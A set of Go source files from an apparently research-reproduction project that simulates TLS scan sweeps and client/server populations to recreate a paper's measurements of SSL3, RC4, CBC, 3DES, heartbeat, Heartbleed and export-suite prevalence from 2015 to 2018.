			t.Fatal("post-ingest result diverges from the interpreter")
		}
	}

	// Replacing the aggregate (Run with a different seed, same record
	// count) lands on a colliding generation — the epoch must keep the old
	// entries unreachable so no stale body is ever served.
	s.Options.Seed = 2
	if err := s.Run(nil); err != nil {
		t.Fatal(err)
	}
	res4, gen4, hit4, err := s.QueryInfo(src)
	if err != nil {
		t.Fatal(err)
	}
	if gen4 != gen1 {
		t.Fatalf("epoch test needs a generation collision: got %d, want %d", gen4, gen1)
	}
	if hit4 {
		t.Fatal("stale cache hit across an aggregate replacement")
	}
	f4, err := s.Frame()
	if err != nil {
		t.Fatal(err)
	}
	want4, err := f4.Query(e)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want4.Series.Points {
		if res4.Series.Points[i] != want4.Series.Points[i] {
			t.Fatal("post-replacement result diverges from the interpreter")
		}
	}
	if _, _, hit5, err := s.QueryInfo(src); err != nil || !hit5 {
		t.Errorf("repeat after replacement: err=%v hit=%v, want a hit", err, hit5)
	}
	if st := cache.Stats(); st.Hits == 0 || st.Misses == 0 {
		t.Errorf("cache stats unchanged: %+v", st)
	}

	// An unrun study reports the sentinel through the cached path too.
	var unrun Study
	unrun.SetQueryCache(cache, "unrun")
	if _, _, _, err := unrun.QueryInfo(src); !errors.Is(err, ErrNotRun) {
		t.Errorf("unrun study: err=%v, want ErrNotRun", err)
	}
}
