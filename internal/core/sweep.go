package core

import (
	"context"
	"errors"
	"fmt"
	"io"
	"runtime"
	"sync"
	"time"

	"tlsage/internal/fingerprint"
	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// ScanSweep runs a sequence of scan campaigns across the Censys observation
// window (Aug 2015 – May 2018, §3.2), producing the temporal view of server
// behaviour the paper draws its §5 server-side conclusions from. Snapshots
// run concurrently on a bounded pool; each snapshot seeds its own RNG from
// the month index, so the output is identical for every pool width.
type ScanSweep struct {
	// Start and End bound the sweep (inclusive); defaults: Aug 2015 and
	// May 2018.
	Start, End timeline.Month
	// StepMonths is the snapshot spacing; default 3.
	StepMonths int
	// HostsPerSnapshot is the farm size per snapshot; default 150.
	HostsPerSnapshot int
	// Workers, Seed, Timeout as in ScanCampaign.
	Workers int
	Seed    int64
	Timeout time.Duration
	// PopularityWeighted selects the Alexa-style universe.
	PopularityWeighted bool
	// SnapshotWorkers bounds how many snapshots run concurrently; default
	// min(4, GOMAXPROCS). Each snapshot already fans its probes out over
	// Workers scanner goroutines and binds HostsPerSnapshot TCP listeners,
	// so the default stays deliberately narrow.
	SnapshotWorkers int
}

// SweepPoint is one snapshot's server-side metrics.
type SweepPoint struct {
	Month            timeline.Month
	SSL3Support      float64
	RC4Chosen        float64
	RC4Supported     float64
	CBCChosen        float64
	TDESChosen       float64
	HeartbeatSupport float64
	Heartbleed       float64
	ExportSupport    float64
}

// Run executes the sweep: all snapshots on a bounded worker pool, reported
// in chronological order regardless of completion order. On failure it
// returns the points of the snapshots that preceded the (chronologically)
// first failing one, plus that snapshot's error.
func (s *ScanSweep) Run(ctx context.Context) ([]SweepPoint, error) {
	months, reports, err := s.RunReports(ctx)
	return SweepPoints(months, reports), err
}

// SweepPoints derives the rendered per-month metrics from raw campaign
// reports — the same projection Run applies, exposed so callers holding the
// reports (e.g. to host them via NewScanStudy) can still print the table.
func SweepPoints(months []timeline.Month, reports []*CampaignReport) []SweepPoint {
	points := make([]SweepPoint, len(reports))
	for i, rep := range reports {
		points[i] = SweepPoint{
			Month:            months[i],
			SSL3Support:      rep.SSL3SupportPct(),
			RC4Chosen:        rep.RC4ChosenPct(),
			RC4Supported:     rep.RC4SupportPct(),
			CBCChosen:        rep.CBCChosenPct(),
			TDESChosen:       rep.TDESChosenPct(),
			HeartbeatSupport: rep.HeartbeatSupportPct(),
			Heartbleed:       rep.HeartbleedVulnerablePct(),
			ExportSupport:    rep.ExportSupportPct(),
		}
	}
	return points
}

// RunReports executes the sweep and returns the raw per-month campaign
// reports in chronological order — the input NewScanStudy hosts on the query
// surface; Run derives its SweepPoints from exactly these reports. On
// failure both slices stop before the (chronologically) first failing
// snapshot, and that snapshot's error is returned.
func (s *ScanSweep) RunReports(ctx context.Context) ([]timeline.Month, []*CampaignReport, error) {
	if s.Start == (timeline.Month{}) {
		s.Start = timeline.M(2015, time.August)
	}
	if s.End == (timeline.Month{}) {
		s.End = timeline.M(2018, time.May)
	}
	if s.StepMonths <= 0 {
		s.StepMonths = 3
	}
	if s.HostsPerSnapshot <= 0 {
		s.HostsPerSnapshot = 150
	}
	var months []timeline.Month
	for m := s.Start; !s.End.Before(m); m = m.AddMonths(s.StepMonths) {
		months = append(months, m)
	}

	pool := s.SnapshotWorkers
	if pool <= 0 {
		pool = runtime.GOMAXPROCS(0)
		if pool > 4 {
			pool = 4
		}
	}
	if pool > len(months) {
		pool = len(months)
	}

	// A failed snapshot cancels the derived context so queued and in-flight
	// campaigns bail out instead of scanning to completion behind the error.
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	reports := make([]*CampaignReport, len(months))
	errs := make([]error, len(months))
	sem := make(chan struct{}, pool)
	var wg sync.WaitGroup
	for i, m := range months {
		wg.Add(1)
		go func(i int, m timeline.Month) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			campaign := &ScanCampaign{
				Date:               m.Mid(),
				Hosts:              s.HostsPerSnapshot,
				Workers:            s.Workers,
				Seed:               s.Seed + int64(m.Index()),
				Timeout:            s.Timeout,
				PopularityWeighted: s.PopularityWeighted,
			}
			rep, err := campaign.Run(ctx)
			if err != nil {
				errs[i] = fmt.Errorf("core: sweep at %v: %w", m, err)
				cancel()
				return
			}
			reports[i] = rep
		}(i, m)
	}
	wg.Wait()
	for i := range months {
		if errs[i] == nil {
			continue
		}
		err := errs[i]
		// A snapshot cancelled by another's failure is a knock-on effect;
		// surface the root failure instead.
		if errors.Is(err, context.Canceled) {
			for _, e := range errs[i:] {
				if e != nil && !errors.Is(e, context.Canceled) {
					err = e
					break
				}
			}
		}
		return months[:i], reports[:i], err
	}
	return months, reports, nil
}

// NewScanStudy folds per-month scan campaign reports into a hostable Study,
// putting the active measurement on the same Frame/Expr query surface (and
// Router mount) as the passive notary data. Each report lands in its month's
// counters as pre-aggregated volume:
//
//	total             farm hosts probed
//	established       hosts answering the Chrome-2015 probe
//	version:ssl3      hosts answering the SSL3-only probe (§5.1)
//	class:rc4/cbc/3des  suites chosen against the Chrome-2015 list (§5.2–§5.6;
//	                  cbc counts CBCTotal, matching CBCChosenPct)
//	adv-rc4           hosts answering the RC4-only probe (SSL-Pulse style)
//	adv-export        hosts choosing an export suite (§5.5)
//	offers-heartbeat  hosts acking the heartbeat extension (§5.4)
//	heartbeat-ack     hosts the live Heartbleed check actually over-read
//
// so e.g. pct(version:ssl3 / total) reproduces SSL3SupportPct month by month.
func NewScanStudy(months []timeline.Month, reports []*CampaignReport) (*Study, error) {
	agg, err := ScanAggregate(months, reports)
	if err != nil {
		return nil, err
	}
	return &Study{agg: agg, db: fingerprint.BuildDefault()}, nil
}

// ScanAggregate folds per-month scan campaign reports into a bare aggregate
// — the NewScanStudy counter mapping without the study wrapper. This is the
// federation form: an externally-run campaign encodes the aggregate into a
// delta frame and POSTs it to a core's /merge endpoint, which hosts the
// months without rebuilding the sweep locally.
func ScanAggregate(months []timeline.Month, reports []*CampaignReport) (*notary.Aggregate, error) {
	if len(months) != len(reports) {
		return nil, fmt.Errorf("core: %d months but %d reports", len(months), len(reports))
	}
	agg := notary.NewAggregate()
	for i, rep := range reports {
		rep := rep
		agg.UpdateMonth(months[i], uint64(rep.Hosts), func(ms *notary.MonthStats) {
			chrome := rep.Probes["chrome2015"]
			ms.Total += rep.Hosts
			ms.Established += chrome.Answered
			ms.ByVersion[registry.VersionSSL3] += rep.Probes["ssl3only"].Answered
			ms.ByClass["RC4"] += chrome.ChoseRC4
			ms.ByClass["CBC"] += chrome.CBCTotal()
			ms.ByClass["3DES"] += chrome.Chose3DES
			ms.AdvRC4 += rep.Probes["rc4only"].Answered
			ms.AdvExport += rep.Probes["exportonly"].ChoseExport
			ms.OffersHeartbeatN += chrome.HeartbeatAck
			ms.HeartbeatAckN += rep.VulnerableHosts
		})
	}
	return agg, nil
}

// RenderSweep writes the sweep as an aligned table.
func RenderSweep(w io.Writer, points []SweepPoint) error {
	if _, err := fmt.Fprintf(w, "%-8s %8s %8s %8s %8s %8s %8s %8s %8s\n",
		"month", "ssl3", "rc4sel", "rc4sup", "cbc", "3des", "hb", "bleed", "export"); err != nil {
		return err
	}
	for _, p := range points {
		if _, err := fmt.Fprintf(w, "%-8s %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%%\n",
			p.Month, p.SSL3Support, p.RC4Chosen, p.RC4Supported, p.CBCChosen,
			p.TDESChosen, p.HeartbeatSupport, p.Heartbleed, p.ExportSupport); err != nil {
			return err
		}
	}
	return nil
}
