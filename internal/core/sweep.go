package core

import (
	"context"
	"fmt"
	"io"
	"time"

	"tlsage/internal/timeline"
)

// ScanSweep runs a sequence of scan campaigns across the Censys observation
// window (Aug 2015 – May 2018, §3.2), producing the temporal view of server
// behaviour the paper draws its §5 server-side conclusions from.
type ScanSweep struct {
	// Start and End bound the sweep (inclusive); defaults: Aug 2015 and
	// May 2018.
	Start, End timeline.Month
	// StepMonths is the snapshot spacing; default 3.
	StepMonths int
	// HostsPerSnapshot is the farm size per snapshot; default 150.
	HostsPerSnapshot int
	// Workers, Seed, Timeout as in ScanCampaign.
	Workers int
	Seed    int64
	Timeout time.Duration
	// PopularityWeighted selects the Alexa-style universe.
	PopularityWeighted bool
}

// SweepPoint is one snapshot's server-side metrics.
type SweepPoint struct {
	Month            timeline.Month
	SSL3Support      float64
	RC4Chosen        float64
	RC4Supported     float64
	CBCChosen        float64
	TDESChosen       float64
	HeartbeatSupport float64
	Heartbleed       float64
	ExportSupport    float64
}

// Run executes the sweep.
func (s *ScanSweep) Run(ctx context.Context) ([]SweepPoint, error) {
	if s.Start == (timeline.Month{}) {
		s.Start = timeline.M(2015, time.August)
	}
	if s.End == (timeline.Month{}) {
		s.End = timeline.M(2018, time.May)
	}
	if s.StepMonths <= 0 {
		s.StepMonths = 3
	}
	if s.HostsPerSnapshot <= 0 {
		s.HostsPerSnapshot = 150
	}
	var out []SweepPoint
	for m := s.Start; !s.End.Before(m); m = m.AddMonths(s.StepMonths) {
		campaign := &ScanCampaign{
			Date:               m.Mid(),
			Hosts:              s.HostsPerSnapshot,
			Workers:            s.Workers,
			Seed:               s.Seed + int64(m.Index()),
			Timeout:            s.Timeout,
			PopularityWeighted: s.PopularityWeighted,
		}
		rep, err := campaign.Run(ctx)
		if err != nil {
			return out, fmt.Errorf("core: sweep at %v: %w", m, err)
		}
		out = append(out, SweepPoint{
			Month:            m,
			SSL3Support:      rep.SSL3SupportPct(),
			RC4Chosen:        rep.RC4ChosenPct(),
			RC4Supported:     rep.RC4SupportPct(),
			CBCChosen:        rep.CBCChosenPct(),
			TDESChosen:       rep.TDESChosenPct(),
			HeartbeatSupport: rep.HeartbeatSupportPct(),
			Heartbleed:       rep.HeartbleedVulnerablePct(),
			ExportSupport:    rep.ExportSupportPct(),
		})
	}
	return out, nil
}

// RenderSweep writes the sweep as an aligned table.
func RenderSweep(w io.Writer, points []SweepPoint) error {
	if _, err := fmt.Fprintf(w, "%-8s %8s %8s %8s %8s %8s %8s %8s %8s\n",
		"month", "ssl3", "rc4sel", "rc4sup", "cbc", "3des", "hb", "bleed", "export"); err != nil {
		return err
	}
	for _, p := range points {
		if _, err := fmt.Fprintf(w, "%-8s %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%%\n",
			p.Month, p.SSL3Support, p.RC4Chosen, p.RC4Supported, p.CBCChosen,
			p.TDESChosen, p.HeartbeatSupport, p.Heartbleed, p.ExportSupport); err != nil {
			return err
		}
	}
	return nil
}
