package core

import (
	"context"
	"errors"
	"fmt"
	"io"
	"runtime"
	"sync"
	"time"

	"tlsage/internal/timeline"
)

// ScanSweep runs a sequence of scan campaigns across the Censys observation
// window (Aug 2015 – May 2018, §3.2), producing the temporal view of server
// behaviour the paper draws its §5 server-side conclusions from. Snapshots
// run concurrently on a bounded pool; each snapshot seeds its own RNG from
// the month index, so the output is identical for every pool width.
type ScanSweep struct {
	// Start and End bound the sweep (inclusive); defaults: Aug 2015 and
	// May 2018.
	Start, End timeline.Month
	// StepMonths is the snapshot spacing; default 3.
	StepMonths int
	// HostsPerSnapshot is the farm size per snapshot; default 150.
	HostsPerSnapshot int
	// Workers, Seed, Timeout as in ScanCampaign.
	Workers int
	Seed    int64
	Timeout time.Duration
	// PopularityWeighted selects the Alexa-style universe.
	PopularityWeighted bool
	// SnapshotWorkers bounds how many snapshots run concurrently; default
	// min(4, GOMAXPROCS). Each snapshot already fans its probes out over
	// Workers scanner goroutines and binds HostsPerSnapshot TCP listeners,
	// so the default stays deliberately narrow.
	SnapshotWorkers int
}

// SweepPoint is one snapshot's server-side metrics.
type SweepPoint struct {
	Month            timeline.Month
	SSL3Support      float64
	RC4Chosen        float64
	RC4Supported     float64
	CBCChosen        float64
	TDESChosen       float64
	HeartbeatSupport float64
	Heartbleed       float64
	ExportSupport    float64
}

// Run executes the sweep: all snapshots on a bounded worker pool, reported
// in chronological order regardless of completion order. On failure it
// returns the points of the snapshots that preceded the (chronologically)
// first failing one, plus that snapshot's error.
func (s *ScanSweep) Run(ctx context.Context) ([]SweepPoint, error) {
	if s.Start == (timeline.Month{}) {
		s.Start = timeline.M(2015, time.August)
	}
	if s.End == (timeline.Month{}) {
		s.End = timeline.M(2018, time.May)
	}
	if s.StepMonths <= 0 {
		s.StepMonths = 3
	}
	if s.HostsPerSnapshot <= 0 {
		s.HostsPerSnapshot = 150
	}
	var months []timeline.Month
	for m := s.Start; !s.End.Before(m); m = m.AddMonths(s.StepMonths) {
		months = append(months, m)
	}

	pool := s.SnapshotWorkers
	if pool <= 0 {
		pool = runtime.GOMAXPROCS(0)
		if pool > 4 {
			pool = 4
		}
	}
	if pool > len(months) {
		pool = len(months)
	}

	// A failed snapshot cancels the derived context so queued and in-flight
	// campaigns bail out instead of scanning to completion behind the error.
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	points := make([]SweepPoint, len(months))
	errs := make([]error, len(months))
	sem := make(chan struct{}, pool)
	var wg sync.WaitGroup
	for i, m := range months {
		wg.Add(1)
		go func(i int, m timeline.Month) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			campaign := &ScanCampaign{
				Date:               m.Mid(),
				Hosts:              s.HostsPerSnapshot,
				Workers:            s.Workers,
				Seed:               s.Seed + int64(m.Index()),
				Timeout:            s.Timeout,
				PopularityWeighted: s.PopularityWeighted,
			}
			rep, err := campaign.Run(ctx)
			if err != nil {
				errs[i] = fmt.Errorf("core: sweep at %v: %w", m, err)
				cancel()
				return
			}
			points[i] = SweepPoint{
				Month:            m,
				SSL3Support:      rep.SSL3SupportPct(),
				RC4Chosen:        rep.RC4ChosenPct(),
				RC4Supported:     rep.RC4SupportPct(),
				CBCChosen:        rep.CBCChosenPct(),
				TDESChosen:       rep.TDESChosenPct(),
				HeartbeatSupport: rep.HeartbeatSupportPct(),
				Heartbleed:       rep.HeartbleedVulnerablePct(),
				ExportSupport:    rep.ExportSupportPct(),
			}
		}(i, m)
	}
	wg.Wait()
	for i := range months {
		if errs[i] == nil {
			continue
		}
		err := errs[i]
		// A snapshot cancelled by another's failure is a knock-on effect;
		// surface the root failure instead.
		if errors.Is(err, context.Canceled) {
			for _, e := range errs[i:] {
				if e != nil && !errors.Is(e, context.Canceled) {
					err = e
					break
				}
			}
		}
		return points[:i], err
	}
	return points, nil
}

// RenderSweep writes the sweep as an aligned table.
func RenderSweep(w io.Writer, points []SweepPoint) error {
	if _, err := fmt.Fprintf(w, "%-8s %8s %8s %8s %8s %8s %8s %8s %8s\n",
		"month", "ssl3", "rc4sel", "rc4sup", "cbc", "3des", "hb", "bleed", "export"); err != nil {
		return err
	}
	for _, p := range points {
		if _, err := fmt.Fprintf(w, "%-8s %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%% %7.2f%%\n",
			p.Month, p.SSL3Support, p.RC4Chosen, p.RC4Supported, p.CBCChosen,
			p.TDESChosen, p.HeartbeatSupport, p.Heartbleed, p.ExportSupport); err != nil {
			return err
		}
	}
	return nil
}
