package population

import (
	"fmt"
	"math/rand"

	"tlsage/internal/adoption"
	"tlsage/internal/handshake"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// Universe selects which weighting of the server population applies:
// traffic-weighted (the Notary's view) or host-weighted (the Censys view).
type Universe uint8

// Universes.
const (
	ByTraffic Universe = iota
	ByHosts
)

// Cohort is one server configuration class with its two weight curves and
// attribute dynamics.
type Cohort struct {
	Name string
	// Base is the cohort's configuration template. Sampled configs start as
	// copies of Base and then roll the attribute probabilities below.
	Base handshake.ServerConfig
	// Traffic weighs the cohort in the passive (connection) universe; Hosts
	// in the active-scan (IPv4 census) universe.
	Traffic, Hosts adoption.Curve
	// HeartbeatProb is the probability a sampled server has the heartbeat
	// extension enabled (OpenSSL-derived cohorts only). Nil means never.
	HeartbeatProb adoption.Curve
	// SSL3Prob is the probability a sampled server still accepts SSL 3
	// (MinVersion = SSL3). Nil means the Base MinVersion always applies.
	SSL3Prob adoption.Curve
	// IntolerantProb is the probability a sampled server is version
	// intolerant (rejects hellos above its maximum version). Nil means
	// never.
	IntolerantProb adoption.Curve
	// RC4Prob is the probability a sampled server still *supports* RC4
	// (keeps the trailing RC4 suites of its base list). Nil means the base
	// list always applies. This drives the SSL-Pulse-style support numbers
	// of §5.3 (92.8% in Oct 2013 → 19.1% in May 2018).
	RC4Prob adoption.Curve
}

// ServerPopulation is the complete server-side model.
type ServerPopulation struct {
	cohorts []Cohort
	// affinity routes special client profiles to their dedicated cohorts
	// (Nagios checks hit Nagios servers, GridFTP hits GRID endpoints, ...).
	affinity map[string]string
	// vulnGivenHeartbeat is the global probability that a heartbeat-enabled
	// server is still Heartbleed-vulnerable (§5.4 patch dynamics).
	vulnGivenHeartbeat adoption.Curve
}

// Cohorts returns the cohort list (shared; do not mutate).
func (sp *ServerPopulation) Cohorts() []Cohort { return sp.cohorts }

// CohortByName locates a cohort.
func (sp *ServerPopulation) CohortByName(name string) (*Cohort, bool) {
	for i := range sp.cohorts {
		if sp.cohorts[i].Name == name {
			return &sp.cohorts[i], true
		}
	}
	return nil, false
}

// Weights returns normalized cohort weights at d in the given universe.
func (sp *ServerPopulation) Weights(d timeline.Date, u Universe) map[string]float64 {
	out := make(map[string]float64, len(sp.cohorts))
	total := 0.0
	for _, c := range sp.cohorts {
		w := c.curve(u).Value(d)
		out[c.Name] = w
		total += w
	}
	if total > 0 {
		for k := range out {
			out[k] /= total
		}
	}
	return out
}

func (c *Cohort) curve(u Universe) adoption.Curve {
	if u == ByHosts {
		return c.Hosts
	}
	return c.Traffic
}

// Sample draws a cohort by weight and instantiates a concrete ServerConfig
// from it (attribute probabilities rolled).
func (sp *ServerPopulation) Sample(d timeline.Date, u Universe, rnd *rand.Rand) (*Cohort, *handshake.ServerConfig) {
	total := 0.0
	for _, c := range sp.cohorts {
		total += c.curve(u).Value(d)
	}
	x := rnd.Float64() * total
	acc := 0.0
	idx := len(sp.cohorts) - 1
	for i, c := range sp.cohorts {
		acc += c.curve(u).Value(d)
		if x < acc {
			idx = i
			break
		}
	}
	c := &sp.cohorts[idx]
	return c, sp.instantiate(c, d, rnd)
}

// SampleForClient draws a server for a passive connection from the named
// client profile, honouring affinity routes.
func (sp *ServerPopulation) SampleForClient(clientProfile string, d timeline.Date, rnd *rand.Rand) (*Cohort, *handshake.ServerConfig) {
	if target, ok := sp.affinity[clientProfile]; ok {
		if c, found := sp.CohortByName(target); found {
			return c, sp.instantiate(c, d, rnd)
		}
	}
	return sp.Sample(d, ByTraffic, rnd)
}

// instantiate copies the cohort base config and rolls its attributes.
func (sp *ServerPopulation) instantiate(c *Cohort, d timeline.Date, rnd *rand.Rand) *handshake.ServerConfig {
	cfg := c.Base // value copy; slices are shared but never mutated
	if c.HeartbeatProb != nil && rnd.Float64() < c.HeartbeatProb.Value(d) {
		cfg.HeartbeatEnabled = true
		if rnd.Float64() < sp.vulnGivenHeartbeat.Value(d) {
			cfg.HeartbleedVulnerable = true
		}
	}
	if c.SSL3Prob != nil {
		if rnd.Float64() < c.SSL3Prob.Value(d) {
			cfg.MinVersion = registry.VersionSSL3
		} else if cfg.MinVersion < registry.VersionTLS10 {
			cfg.MinVersion = registry.VersionTLS10
		}
	}
	if c.IntolerantProb != nil && rnd.Float64() < c.IntolerantProb.Value(d) {
		cfg.VersionIntolerant = true
	}
	if c.RC4Prob != nil && rnd.Float64() >= c.RC4Prob.Value(d) {
		cfg.Suites = stripRC4(cfg.Suites)
	}
	return &cfg
}

// stripRC4 returns suites without RC4 entries (copy; base lists are shared).
func stripRC4(suites []uint16) []uint16 {
	out := make([]uint16, 0, len(suites))
	for _, id := range suites {
		if s, ok := registry.SuiteByID(id); ok && s.IsRC4() {
			continue
		}
		out = append(out, id)
	}
	return out
}

// Validate checks every cohort's base config.
func (sp *ServerPopulation) Validate() error {
	if len(sp.cohorts) == 0 {
		return fmt.Errorf("population: no server cohorts")
	}
	for i := range sp.cohorts {
		if err := sp.cohorts[i].Base.Validate(); err != nil {
			return err
		}
		if sp.cohorts[i].Traffic == nil || sp.cohorts[i].Hosts == nil {
			return fmt.Errorf("population: cohort %s missing weight curves", sp.cohorts[i].Name)
		}
	}
	for client, cohort := range sp.affinity {
		if _, ok := sp.CohortByName(cohort); !ok {
			return fmt.Errorf("population: affinity %s → unknown cohort %s", client, cohort)
		}
	}
	return nil
}

// Server-side suite support sets, in server preference order.
var (
	serverCurvesClassic = []registry.CurveID{
		registry.CurveSecp256r1, registry.CurveSecp384r1, registry.CurveSecp521r1,
	}
	serverCurvesModern = []registry.CurveID{
		registry.CurveX25519, registry.CurveSecp256r1, registry.CurveSecp384r1,
		registry.CurveSecp521r1,
	}
	serverCurvesP384Only = []registry.CurveID{
		registry.CurveSecp384r1, registry.CurveSecp521r1,
	}

	listLegacy10 = []uint16{
		0x002F, 0x0035, 0xC013, 0xC014, 0x0033, 0x0039, 0x000A, 0x0016,
		0x0005, 0x0004, 0x0009, 0x0003, 0x0008,
	}
	listRC4First10 = []uint16{
		0x0005, 0x0004, 0xC011, 0x002F, 0x0035, 0x000A, 0x0033, 0x0039,
	}
	listRC4First12 = []uint16{
		0x0005, 0xC011, 0x0004, 0xC02F, 0xC030, 0x009C, 0x009D, 0xC013,
		0xC014, 0x002F, 0x0035, 0x000A,
	}
	listCBC12 = []uint16{
		0xC013, 0xC014, 0xC027, 0xC028, 0x0033, 0x0039, 0x0067, 0x006B,
		0x002F, 0x0035, 0x003C, 0x003D, 0x000A, 0x0016,
		0x0005, 0x0004, // RC4 supported at the bottom, never preferred
	}
	listModernRSA = []uint16{
		0x009C, 0x009D, 0x003C, 0x003D, 0x002F, 0x0035, 0x000A,
		0x0005, // trailing RC4 support
	}
	listModernECDHE = []uint16{
		0xC02F, 0xC02B, 0xC030, 0xC02C, 0xCCA8, 0xCCA9, 0xCC13, 0xCC14,
		0xC027, 0xC013, 0xC014, 0x009C, 0x009D, 0x003C, 0x002F, 0x0035, 0x000A,
		0x0005, 0xC011, // trailing RC4 support
	}
	// listChaChaEdge: mobile-optimized CDN edges preferring
	// ChaCha20-Poly1305 (the source of the paper's 1.7% negotiated share).
	listChaChaEdge = []uint16{
		0xCCA8, 0xCCA9, 0xC02F, 0xC02B, 0xC030, 0xC02C, 0xC013, 0xC014,
		0x009C, 0x002F, 0x0035,
	}
	listDHE = []uint16{
		0x009E, 0x009F, 0x0033, 0x0039, 0x0067, 0x006B, 0xC02F, 0xC030,
		0x002F, 0x0035, 0x000A,
		0x0005, // trailing RC4 support
	}
	listTLS13  = append([]uint16{0x1301, 0x1302, 0x1303}, listModernECDHE...)
	list3DES   = append([]uint16{0x000A, 0x0016, 0xC012}, listModernECDHE...)
	listGrid   = []uint16{0x0002, 0x0001, 0x0000, 0x002F, 0x0035, 0x009C}
	listNagios = []uint16{
		0x001B, 0x0018, 0x0034, 0x003A, 0x0019, 0x0000, 0x0017,
	}
	listInterwise  = []uint16{0x0003, 0x0005}
	listBankmellat = []uint16{
		0x0005, 0x0004, 0xC02F, 0xC030, 0x009C, 0xC013, 0x002F, 0x0035, 0x000A,
	}
	listGOST = []uint16{0x0081, 0x0080, 0x002F, 0x0035}
)
