// Package population models who talks to whom on the simulated Internet:
// a client population (traffic share per software profile, time-varying) and
// a server population (configuration cohorts with separate traffic and
// host-census weights, attack-driven attribute dynamics, and affinity rules
// pairing special clients with their servers).
//
// Two weightings per server cohort matter because the paper's two datasets
// measure different universes: the passive Notary weighs servers by the
// connections users actually make (traffic), while Censys weighs every
// reachable IPv4 host equally (hosts). A cohort like "abandoned SSL3-capable
// boxes" is nearly invisible in traffic but large in a host census — which
// is exactly why the paper can report <0.01% SSL3 connections (§5.1)
// alongside 25% SSL3 server support.
package population

import (
	"fmt"
	"math/rand"

	"tlsage/internal/adoption"
	"tlsage/internal/clientdb"
	"tlsage/internal/timeline"
)

// WeightedProfile pairs a client profile with its traffic-share curve.
type WeightedProfile struct {
	Profile *clientdb.Profile
	Weight  adoption.Curve
}

// ClientPopulation is the time-varying mix of client software generating
// Notary traffic.
type ClientPopulation struct {
	entries []WeightedProfile
}

// NewClientPopulation builds a population from explicit weights.
func NewClientPopulation(entries []WeightedProfile) (*ClientPopulation, error) {
	if len(entries) == 0 {
		return nil, fmt.Errorf("population: empty client population")
	}
	for _, e := range entries {
		if e.Profile == nil || e.Weight == nil {
			return nil, fmt.Errorf("population: nil profile or weight")
		}
		if err := e.Profile.Validate(); err != nil {
			return nil, err
		}
	}
	return &ClientPopulation{entries: entries}, nil
}

// Profiles returns the profiles in the population.
func (cp *ClientPopulation) Profiles() []*clientdb.Profile {
	out := make([]*clientdb.Profile, len(cp.entries))
	for i, e := range cp.entries {
		out[i] = e.Profile
	}
	return out
}

// Weights returns the normalized traffic share per profile name at date d.
func (cp *ClientPopulation) Weights(d timeline.Date) map[string]float64 {
	out := make(map[string]float64, len(cp.entries))
	total := 0.0
	for _, e := range cp.entries {
		w := e.Weight.Value(d)
		out[e.Profile.Name] = w
		total += w
	}
	if total > 0 {
		for k := range out {
			out[k] /= total
		}
	}
	return out
}

// Sample draws a client profile (by traffic weight at d) and a release index
// (by the profile's installed-version mix at d).
func (cp *ClientPopulation) Sample(d timeline.Date, rnd *rand.Rand) (*clientdb.Profile, int) {
	total := 0.0
	weights := make([]float64, len(cp.entries))
	for i, e := range cp.entries {
		w := e.Weight.Value(d)
		weights[i] = w
		total += w
	}
	x := rnd.Float64() * total
	acc := 0.0
	idx := len(cp.entries) - 1
	for i, w := range weights {
		acc += w
		if x < acc {
			idx = i
			break
		}
	}
	p := cp.entries[idx].Profile
	return p, p.SampleRelease(d, rnd)
}

// ClassShare sums normalized weights per fingerprint class at d, splitting
// labeled and unlabeled mass — the quantities behind Table 2's coverage
// column.
func (cp *ClientPopulation) ClassShare(d timeline.Date) (byClass map[clientdb.Class]float64, unlabeled float64) {
	byClass = make(map[clientdb.Class]float64)
	w := cp.Weights(d)
	for _, e := range cp.entries {
		share := w[e.Profile.Name]
		if e.Profile.Unlabeled {
			unlabeled += share
			continue
		}
		byClass[e.Profile.Class] += share
	}
	return byClass, unlabeled
}
