package population

import (
	"tlsage/internal/adoption"
	"tlsage/internal/handshake"
	"tlsage/internal/registry"
)

// DefaultServers returns the calibrated study server population.
//
// Calibration targets (paper section → cohort/attribute):
//   - Fig 2: RC4 negotiated 60% (Aug 2013) → ~0 (2018): rc4first-* traffic.
//   - Fig 8: ECDHE shift after Snowden: modern-ecdhe traffic knots.
//   - §5.1: SSL3 server support 45% (Sep 2015) → <25% (May 2018): SSL3Prob
//     plus legacy cohort host weights.
//   - §5.3: servers choosing RC4 vs Chrome-2015 list: 11.2% → 3.4%:
//     rc4first-* + bankmellat host weights.
//   - §5.2: servers choosing CBC: 54% → 35%, biggest drop late-2016→mid-2017:
//     cbc-tls12 + legacy-tls10 host weights.
//   - §5.6: servers choosing 3DES: 0.54% → 0.25%: 3des-pref host weight.
//   - §5.4: Heartbleed 23.7% at disclosure → 0.32% (May 2018); heartbeat
//     support 34% (2018): HeartbeatProb × vulnGivenHeartbeat.
//   - §6.4: TLS 1.3 negotiated 1.3% (Apr 2018): tls13 traffic weight.
func DefaultServers() *ServerPopulation {
	// Heartbeat support among OpenSSL-derived servers, host- and
	// traffic-invariant. 2018 target: ≈34% of all servers.
	hbProb := pw(
		adoption.Point{Date: dd(2012, 1, 1), Value: 0.02},
		adoption.Point{Date: dd(2012, 10, 1), Value: 0.14},
		adoption.Point{Date: dd(2014, 4, 1), Value: 0.30},
		adoption.Point{Date: dd(2016, 1, 1), Value: 0.36},
		adoption.Point{Date: dd(2018, 5, 1), Value: 0.44},
	)
	// Probability a heartbeat-enabled server is unpatched: ~90% the day
	// Heartbleed went public, crashing within weeks (§5.4: "less than 2%
	// of servers vulnerable a month later"), floor 0.8% so that overall
	// vulnerability lands at ≈0.32% in May 2018.
	vuln := adoption.Decay{
		Start: dd(2014, 4, 7), From: 0.90, To: 0.008, HalfLifeDays: 8,
	}
	// SSL3 acceptance for mid-age server fleets.
	ssl3Mid := pw(
		adoption.Point{Date: dd(2012, 1, 1), Value: 0.92},
		adoption.Point{Date: dd(2014, 10, 14), Value: 0.80}, // POODLE
